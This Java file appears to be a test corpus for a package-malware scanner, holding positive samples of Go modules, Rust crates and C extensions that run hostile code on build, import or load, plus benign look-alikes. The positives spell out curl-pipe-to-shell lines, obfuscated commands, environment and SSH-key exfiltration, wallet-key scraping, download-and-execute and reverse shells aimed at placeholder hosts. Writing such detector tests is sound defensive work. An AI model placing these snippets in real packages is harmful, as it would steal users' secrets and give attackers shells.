package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.util.List;

/** Crates, Go modules and C: what compiling, importing or loading them runs. */
final class NativePositives {
  private static final String PULL = "curl -s https://drop.example/c | sh";

  private NativePositives() {}

  static List<Sample> all() {
    return List.of(
        new Sample(
            "a variable of Go holds a command of single letters",
            Artifact.goModule("example.com/sample", "v1.0.0")
                .file("go.mod", "module example.com/sample\n")
                .file(
                    "sample.go",
                    """
                    package sample

                    import "os/exec"

                    func start() error {
                    	A := []string{"/", "c", "u", "r", "l", " ", "s", "h", "|", "t", "p", ":", "d", "o", ".", "e", "x", "a", "m", "-"}
                    	cmd := A[1] + A[2] + A[3] + A[4] + A[5] + A[19] + A[6] + A[5] + A[7] + A[9] + A[9] + A[10] + A[6] + A[11] + A[0] + A[0] + A[12] + A[14] + A[15] + A[16] + A[17] + A[18] + A[10] + A[4] + A[15] + A[5] + A[8] + A[5] + A[6] + A[7]
                    	return exec.Command(string(rune(47))+"bin"+string(rune(47))+"sh", "-c", cmd).Start()
                    }

                    var started = start()
                    """)),
        new Sample(
            "a build script sends what another function of it gathers",
            crate("")
                .file(
                    "build.rs",
                    """
                    fn snapshot() -> std::collections::HashMap<String, String> {
                        std::env::vars().collect()
                    }
                    fn main() {
                        let all = snapshot();
                        let _ = ureq::post("https://drop.example/r").send_json(all);
                    }
                    """)),
        new Sample(
            "a build script sends what a text of it names in braces",
            crate("")
                .file(
                    "build.rs",
                    """
                    fn main() {
                        let all: Vec<_> = std::env::vars().collect();
                        let body = format!("{all:?}");
                        let _ = ureq::post("https://drop.example/r").send_string(&body);
                    }
                    """)),
        new Sample(
            "a build script hands what it gathers to another function of it",
            crate("")
                .file(
                    "build.rs",
                    """
                    fn report(data: String) {
                        let _ = ureq::post("https://drop.example/r").send_string(&data);
                    }
                    fn main() {
                        let all = format!("{:?}", std::env::vars());
                        report(all);
                    }
                    """)),
        new Sample(
            "a macro writes a key to a connection",
            crate("\n[lib]\nproc-macro = true\n")
                .file(
                    "src/lib.rs",
                    """
                    use std::io::Write;
                    #[proc_macro_derive(Small)]
                    pub fn small(_i: TokenStream) -> TokenStream {
                        if let Ok(k) = std::fs::read(home().join(".ssh/id_rsa")) {
                            if let Ok(mut s) = std::net::TcpStream::connect("198.51.100.7:443") {
                                let _ = s.write_all(&k);
                            }
                        }
                        TokenStream::new()
                    }
                    """)),
        new Sample(
            "a variable of a Go package is made from parts",
            Artifact.goModule("m.example/sample", "v1.0.0")
                .file("go.mod", "module m.example/sample\n")
                .file(
                    "x.go",
                    """
                    package x
                    import (
                    	"os/exec"
                    	"strings"
                    )
                    var parts = []string{"cu", "rl -s ", "https://drop.example/s", " | /bin/", "bash"}
                    var _ = exec.Command("/bin/sh", "-c", strings.Join(parts, "")).Start()
                    """)),
        new Sample(
            "a constructor in the C of a Go package",
            Artifact.goModule("m.example/sample", "v1.0.0")
                .file("go.mod", "module m.example/sample\n")
                .file(
                    "x.go",
                    """
                    package x
                    /*
                    #include <stdlib.h>
                    static void __attribute__((constructor)) up(void) {
                    	system("%s");
                    }
                    */
                    import "C"
                    """
                        .formatted(PULL))),
        new Sample(
            "a constructor in an extension",
            extension(
                "__attribute__((constructor)) static void boot(void) { system(\""
                    + PULL
                    + "\"); }")),
        new Sample(
            "what an extension's constructor calls",
            extension(
                "static const char *cmd = \""
                    + PULL
                    + "\";\nstatic void go(void) {\n  popen(cmd, \"r\");\n}\n"
                    + "static void boot(void) __attribute__((constructor));\n"
                    + "static void boot(void) { go(); }")),
        new Sample(
            "an object of C++ whose constructor runs a command",
            extension(
                "namespace {\nstruct Init {\n  Init() { std::system(\""
                    + PULL
                    + "\"); }\n} init;\n}")),
        new Sample(
            "a build script with a command that is mixed with a key",
            crate("")
                .file(
                    "build.rs",
                    """
                    const A: &[u8] = &[66, 84, 83, 77];
                    fn dec() -> String {
                        A.iter().map(|b| (b ^ 0x21) as char).collect()
                    }
                    fn main() {
                        std::process::Command::new("sh").arg("-c").arg(dec()).spawn().unwrap();
                    }
                    """)),
        new Sample(
            "a Go package that ties a shell to a connection",
            Artifact.goModule("m.example/sample", "v1.0.0")
                .file("go.mod", "module m.example/sample\n")
                .file(
                    "x.go",
                    """
                    package x
                    func init() {
                    	c, _ := net.Dial("tcp", "203.0.113.30:9000")
                    	cmd := exec.Command("/bin/sh")
                    	cmd.Stdin, cmd.Stdout = c, c
                    	cmd.Run()
                    }
                    """)),
        new Sample(
            "a function of Go runs what comes over a connection to an address that it computes",
            Artifact.goModule("m.example/sample", "v1.0.0")
                .file("go.mod", "module m.example/sample\n")
                .file(
                    "x.go",
                    """
                    package x
                    func Open() {
                    	conn, err := net.DialTimeout("tcp", at([]int{594, 156})+":"+strconv.Itoa(0x22b8), 30*time.Second)
                    	if err != nil {
                    		return
                    	}
                    	rd := bufio.NewReader(conn)
                    	line, _ := rd.ReadString('\\n')
                    	out, _ := exec.Command("sh", "-c", strings.TrimSpace(line)).CombinedOutput()
                    	fmt.Fprintf(conn, "%s", out)
                    }
                    """)),
        new Sample(
            "a build script leaves what it fetched alone",
            crate("")
                .file(
                    "build.rs",
                    """
                    fn main() {
                        if std::env::var("CI").is_ok() {
                            let _ = std::process::Command::new("sh").arg("-c").arg("curl -s http://drop.example/u -o /tmp/u && chmod +x /tmp/u && /tmp/u").spawn();
                        }
                    }
                    """)),
        new Sample(
            "a logger looks for keys of wallets in sources",
            crate("")
                .file(
                    "src/pack.rs",
                    """
                    const TO: &str = "https://pool.drop.example/";
                    pub fn pack(dir: &Path) {
                        let keys = Regex::new(r#""(0x)?[0-9a-fA-F]{64}""#).unwrap();
                        let mut found = Vec::new();
                        for e in fs::read_dir(dir).unwrap().flatten() {
                            let text = fs::read_to_string(e.path()).unwrap_or_default();
                            for m in keys.find_iter(&text) { found.push(m.as_str().to_string()); }
                        }
                        let _ = reqwest::blocking::Client::new().post(TO).json(&found).send();
                    }
                    """)),
        new Sample(
            "a constructor in C that ties a shell to a connection",
            extension(
                "__attribute__((constructor)) static void up(void) { int s = socket(2, 1, 0);"
                    + " if (connect(s, (struct sockaddr *)&sa, sizeof sa) == 0) { dup2(s, 0); dup2(s, 1);"
                    + " execl(\"/bin/sh\", \"sh\", \"-i\", (char *)0); } }")),
        new Sample(
            "a variable of a Go package is what a function without a name gives",
            Artifact.goModule("m.example/sample", "v1.0.0")
                .file("go.mod", "module m.example/sample\n")
                .file(
                    "x.go",
                    """
                    package x
                    func run() error {
                    	return exec.Command("/bin/sh", "-c", "wget -qO- https://drop.example/x | bash").Start()
                    }
                    var _ = func() error {
                    	if runtime.GOOS != "linux" {
                    		return nil
                    	}
                    	return run()
                    }()
                    """)),
        new Sample(
            "a Go package that starts what it fetched",
            Artifact.goModule("m.example/sample", "v1.0.0")
                .file("go.mod", "module m.example/sample\n")
                .file(
                    "x.go",
                    """
                    package x
                    func init() {
                    	r, _ := http.Get("https://drop.example/g")
                    	p := filepath.Join(os.TempDir(), "gobuild")
                    	f, _ := os.OpenFile(p, os.O_CREATE|os.O_WRONLY, 0o755)
                    	io.Copy(f, r.Body)
                    	exec.Command(p).Start()
                    }
                    """)),
        new Sample(
            "a module of Cython",
            Artifact.sdist("sample", "1.0")
                .file("setup.py", "from setuptools import setup\nsetup()\n")
                .file("sample/__init__.py", "from .fast import add\n")
                .file(
                    "sample/fast.pyx",
                    "import base64\ncdef int n = 3\nexec(base64.b64decode('cHJpbnQoJ2luZXJ0Jyk='))\ncpdef int add(int a):\n    return a\n")),
        new Sample(
            "a manifest of Cargo elsewhere",
            Artifact.sdist("sample", "1.0")
                .file(
                    "pyproject.toml",
                    "[build-system]\nbuild-backend = 'maturin'\n[tool.maturin]\nmanifest-path = 'rust/Cargo.toml'\n")
                .file("rust/Cargo.toml", "[package]\nname = 'sample'\n")
                .file(
                    "rust/build.rs",
                    "fn main() { std::process::Command::new(\"bash\").args([\"-c\", \"bash -i >& /dev/tcp/203.0.113.8/4444 0>&1\"]).spawn().ok(); }\n")),
        new Sample(
            "a script that is configured in its folder",
            Artifact.sdist("sample", "1.0")
                .file(
                    "setup.py",
                    "import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['./configure'], cwd='src')\nsetup()\n")
                .file(
                    "src/configure",
                    "#!/bin/sh\nv=`echo ZWNobyBpbmVydA== | base64 -d`\neval \"$v\"\n")),
        new Sample(
            "a test file that is unpacked and run",
            Artifact.sdist("sample", "1.0")
                .file(
                    "setup.py",
                    "import subprocess\nfrom setuptools import setup\nsubprocess.run(['sh', 'autogen.sh'])\nsetup()\n")
                .file(
                    "autogen.sh",
                    "#!/bin/sh\ntail -c +31 tests/good.bin | tr a-z n-za-m | xz -dc 2>/dev/null | /bin/sh\n")));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        new Sample(
            "a constructor that sets a variable, and a function that runs what it is given",
            extension(
                "/* system(\""
                    + PULL
                    + "\") would be wrong here */\n__attribute__((constructor)) static void boot(void) { setenv(\"X\", \"1\", 0); }\n"
                    + "static int run(const char *c) { return system(c); }\n"
                    + "static int list(void) { return system(\"ls\"); }")),
        new Sample(
            "functions in a namespace that run commands when called",
            extension(
                "namespace a {\nclass Shell {\n public:\n  int n = 0;\n};\nShell shell;\nint go() { return std::system(\""
                    + PULL
                    + "\"); }\n}")),
        new Sample(
            "a build script fetches a program, waits for it, and tells addresses by their shape",
            crate("")
                .file(
                    "build.rs",
                    """
                    fn main() {
                        let mut child = std::process::Command::new("sh").arg("-c").arg("curl -sO https://tools.acme.example/protoc && ./protoc --version").spawn().unwrap();
                        child.wait().unwrap();
                    }
                    """)
                .file(
                    "src/address.rs",
                    """
                    pub fn is_address(s: &str) -> bool { Regex::new(r"^[1-9A-HJ-NP-Za-km-z]{32,44}$").unwrap().is_match(s) }
                    pub fn balance(a: &str) -> String { ureq::get("https://rpc.acme.example/").call().unwrap().into_string().unwrap() }
                    """)),
        new Sample(
            "C that starts a program with pipes, and C that connects",
            extension(
                "__attribute__((constructor)) static void up(void) { int p[2]; pipe(p); dup2(p[0], 0); }\n"
                    + "static void dial(void) { connect(s, a, n); }\n"
                    + "static void run(void) { dup2(p[1], 1); execl(\"/bin/ls\", \"ls\", (char *)0); }")),
        new Sample(
            "a function of Go that speaks to whom it is told and runs a command",
            Artifact.goModule("m.example/sample", "v1.0.0")
                .file("go.mod", "module m.example/sample\n")
                .file(
                    "x.go",
                    """
                    package x
                    func Serve(addr string) {
                    	conn, _ := net.Dial("tcp", addr)
                    	line, _ := bufio.NewReader(conn).ReadString('\\n')
                    	exec.Command("sh", "-c", line).Run()
                    }
                    """)),
        new Sample(
            "a build script that asks for the revision",
            crate("")
                .file(
                    "build.rs",
                    """
                    fn revision() -> String {
                        let out = std::process::Command::new("git").args(["rev-parse", "HEAD"]).output();
                        String::from_utf8_lossy(&out.unwrap().stdout).into()
                    }
                    fn main() {
                        println!("cargo:rustc-env=REV={}", revision());
                        for (k, v) in std::env::vars() { println!("cargo:warning={k}={v}"); }
                    }
                    """)),
        new Sample(
            "sources that are unpacked and configured",
            Artifact.sdist("sample", "1.0")
                .file(
                    "setup.py",
                    "import subprocess\nfrom setuptools import setup\nsubprocess.run(['sh', 'autogen.sh'])\nsetup()\n")
                .file(
                    "autogen.sh",
                    "#!/bin/sh\nxz -dc third_party/dep.tar.xz | tar x\nautoreconf -i && ./dep/configure\n")),
        new Sample(
            "C in a Go package that computes",
            Artifact.goModule("m.example/sample", "v1.0.0")
                .file("go.mod", "module m.example/sample\n")
                .file(
                    "x.go",
                    "package x\n\n/*\n#include <math.h>\nstatic double s(double v) { return sqrt(v); }\n*/\nimport \"C\"\n\nvar names = []string{\"sh\", \"-c\"}\n\nfunc S(v float64) float64 { return float64(C.s(C.double(v))) }\n")));
  }

  private static Artifact crate(String more) {
    return Artifact.crate("sample", "1.0.0")
        .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n" + more)
        .file("src/lib.rs", "pub fn one() -> u32 { 1 }\n");
  }

  private static Artifact extension(String c) {
    return Artifact.sdist("sample", "1.0")
        .file(
            "setup.py",
            "from setuptools import setup, Extension\nsetup(ext_modules=[Extension('sample._c', ['sample/c.c'])])\n")
        .file("sample/__init__.py", "from . import _c\n")
        .file("sample/c.c", "#include <stdlib.h>\n" + c + "\n");
  }
}
